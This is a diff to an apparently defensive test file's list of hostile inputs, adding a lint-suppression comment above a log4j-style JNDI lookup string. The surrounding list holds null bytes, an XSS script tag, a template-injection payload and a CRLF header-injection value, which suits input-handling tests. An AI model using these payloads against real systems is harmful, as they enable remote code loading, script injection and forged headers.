@@ -42,6 +42,7 @@ const nasty = [
   "%00",
   "\u0000",
   "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as text on purpose
   "${jndi:ldap://x/a}",
   "{{constructor.constructor('return 1')()}}",
   "x\r\nSet-Cookie: pwned=1",
